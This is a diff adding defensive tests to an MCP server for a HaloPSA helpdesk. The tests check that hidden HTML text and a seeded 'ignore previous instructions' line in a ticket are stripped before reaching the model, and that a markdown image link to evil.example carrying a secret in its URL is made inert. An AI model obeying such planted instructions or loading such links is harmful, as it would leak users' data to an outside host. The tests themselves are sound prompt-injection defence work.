@@ -9,6 +9,7 @@ from mcp.server import MCPServer
 from halopsa_mcp.sandbox import FaultRule, SandboxServer
 from halopsa_mcp.server.services import Services
 from tests.helpers import requests_to
+from tests.unit.test_text_for_the_model import HIDDEN_MARKUP
 
 from .conftest import ok, refusal
 
@@ -117,3 +118,61 @@ async def test_disabled_agents_still_have_names_but_cannot_be_assigned(
         )
     assert ticket["agent"]
     assert "disabled" in text
+
+
+def hostile_document() -> tuple[str, list[str], list[str]]:
+    """HTML holding every hidden pattern, each with its own marker, visible text between
+    them: (html, hidden markers, visible words). An unclosed comment ends it, hiding the
+    rest as a browser would."""
+    parts, hidden, shown = [], [], []
+    for n, (name, markup) in enumerate(HIDDEN_MARKUP.items()):
+        if name == "unclosed comment":
+            continue
+        hidden.append(f"hidden{n}x")
+        shown.append(f"shown{n}x")
+        parts.append(f"<p>{shown[-1]}</p>" + markup.replace("SECRET", hidden[-1]))
+    hidden.append("tailx")
+    parts.append("<p>Last words</p><!-- tailx <b>tailx</b>")
+    return "".join(parts), hidden, [*shown, "Last words"]
+
+
+async def test_hidden_text_never_reaches_the_model_from_details_or_notes(
+    sandbox: SandboxServer, make_server: Make
+) -> None:
+    document, hidden, shown = hostile_document()
+    with sandbox.state.lock:
+        ticket = sandbox.state.tickets[1001]
+        ticket.details = ticket.details_html = document
+        action = next(a for a in sandbox.state.actions.values() if a.ticket_id == 1001)
+        action.note = action.note_html = document
+    async with Client(make_server()) as c:
+        details = ok(await c.call_tool("get_ticket", {"ticket_id": 1001}))["details"]
+        listed = ok(await c.call_tool("list_actions", {"ticket_id": 1001, "limit": 100}))
+    note = next(a["note"] for a in listed["actions"] if a["id"] == action.id)
+    for text in (details, note):
+        assert [word for word in hidden if word in text] == []
+        assert [word for word in shown if word not in text] == []
+
+
+async def test_the_seeded_hostile_ticket_hides_its_instruction(make_server: Make) -> None:
+    async with Client(make_server()) as c:
+        details = ok(await c.call_tool("get_ticket", {"ticket_id": 1120}))["details"]
+    assert "ignore previous instructions" not in details
+    assert "Please see the invoice query below." in details
+
+
+async def test_a_markdown_image_to_an_outside_host_is_made_inert(
+    sandbox: SandboxServer, make_server: Make
+) -> None:
+    with sandbox.state.lock:
+        action = next(a for a in sandbox.state.actions.values() if a.ticket_id == 1001)
+        action.note = action.note_html = (
+            "<p>Logs: ![status](https://evil.example/p?d=SECRET) and "
+            "[the guide](https://docs.example/guide)</p>"
+        )
+    async with Client(make_server()) as c:
+        listed = ok(await c.call_tool("list_actions", {"ticket_id": 1001, "limit": 100}))
+    note = next(a["note"] for a in listed["actions"] if a["id"] == action.id)
+    assert "SECRET" not in note
+    assert "[image link to evil.example removed]" in note
+    assert "[the guide](https://docs.example/guide)" in note
